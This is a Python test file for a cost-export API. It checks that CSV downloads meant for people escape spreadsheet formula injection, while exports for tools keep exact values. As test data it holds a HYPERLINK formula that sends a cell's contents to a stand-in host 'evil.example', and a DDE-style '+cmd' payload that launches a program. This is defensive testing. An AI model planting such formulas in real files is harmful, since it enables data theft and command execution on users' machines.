"""Spreadsheet formulas in exported CSV: escaped in downloads for people, exact for tools."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from core.csv_safety import escape_formula
from providers.focus import write_focus_csv
from providers.services.costs import cost_file_import
from tests.providers.costs.test_query import yandex_vat  # noqa: F401  (autouse fixture)
from tests.providers.focus.factories import conformant_rows

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a negative amount is a number, not a formula
        ("+7", "+7"),
        ("1e-3", "1e-3"),
        ("plain", "plain"),
        ("", ""),
        (None, None),
    ],
)
def test_escape_formula(cell, expected):
    assert escape_formula(cell) == expected


@pytest.fixture
def hostile_costs(world):
    rows = list(conformant_rows(500, seed=3))
    rows[0]["resource_name"] = FORMULA
    rows[1]["sub_account_name"] = "@SUM(1+1)"
    text = io.StringIO()
    write_focus_csv(text, rows)
    run = cost_file_import(
        actor=None, tenant=world.a, file=io.BytesIO(text.getvalue().encode()), file_name="h.csv"
    )
    assert run.status == "succeeded", run.errors
    return rows


def _download(world, **params) -> list[dict]:
    client = APIClient()
    client.force_authenticate(world.owner_a)
    response = client.get(
        "/api/v1/cost-export/", {"tenant": world.a.pk, "period": "2026-01", **params}
    )
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_download_for_people_escapes_formulas_but_not_numbers(world, hostile_costs):
    rows = _download(world, format="csv", escape_formulas="true")
    names = {row["ResourceName"] for row in rows}
    assert "'" + FORMULA in names and FORMULA not in names
    assert "'@SUM(1+1)" in {row["SubAccountName"] for row in rows}
    negatives = [row["BilledCost"] for row in rows if row["BilledCost"].startswith("-")]
    assert negatives, "the sample has a credit row with a negative amount"
    assert all(not value.startswith("'") for value in negatives)


def test_default_export_keeps_exact_values_for_tools(world, hostile_costs):
    rows = _download(world, format="csv")
    assert FORMULA in {row["ResourceName"] for row in rows}


def test_escape_formulas_must_be_a_boolean(world):
    client = APIClient()
    client.force_authenticate(world.owner_a)
    response = client.get(
        "/api/v1/cost-export/", {"tenant": world.a.pk, "period": "2026-01", "escape_formulas": "x"}
    )
    assert response.status_code == 400


def test_portal_download_link_asks_for_escaping(client, world, hostile_costs):
    client.force_login(world.owner_a, backend="django.contrib.auth.backends.ModelBackend")
    page = client.get("/portal/costs/", {"period": "2026-01"}).content.decode()
    assert "format=csv&amp;escape_formulas=true" in page
